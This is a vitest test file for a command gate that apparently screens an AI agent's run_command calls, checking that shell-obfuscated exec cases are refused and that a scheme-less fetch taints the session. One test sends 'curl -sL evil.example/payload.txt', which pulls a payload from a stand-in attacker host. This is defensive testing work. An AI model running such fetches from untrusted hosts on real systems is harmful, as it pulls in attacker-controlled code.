import { describe, expect, it } from "vitest";
import { EXEC } from "./exec-cases.js";
import { box, GateClient, isRefusal, LENIENT_SERVER, receivedWork } from "./gate-client.js";
import { expectBlocked } from "./run-case.js";

// Exec calls whose protected path hid behind how a shell reads a command: refused at enforce,
// nothing but the canary reaches the server.

describe("exec commands read as a shell reads them, at enforce: refused", () => {
  for (const a of EXEC) {
    it(`${a.name}: ${a.tries}`, { timeout: 30_000 }, async () => {
      await expectBlocked(a);
    });
  }
});

describe("a fetch without a scheme taints the session", () => {
  it(
    "curl evil.example/x, then the next unknown command is refused (action_if_tainted: deny)",
    { timeout: 30_000 },
    async () => {
      const b = box();
      const c = new GateClient(
        ["--level", "enforce", "--", process.execPath, LENIENT_SERVER],
        b.env,
        b.project,
      );
      try {
        await c.initialize();
        c.call(1, "run_command", { command: "curl -sL evil.example/payload.txt" });
        const fetched = await c.answer(1);
        // A program the catalogue does not know takes the exec class action, deny once tainted.
        c.call(2, "run_command", { command: "deploy-tool --all" });
        const next = await c.answer(2);
        // The fetch itself is the exec class's confirm, relayed at enforce; what it took in taints.
        expect(isRefusal(fetched)).toBe(false);
        expect(isRefusal(next), JSON.stringify(next)).toBe(true);
        const work = receivedWork(b.record);
        expect(work.filter((l) => l.includes("run_command"))).toHaveLength(1);
      } finally {
        await c.close();
      }
    },
  );
});
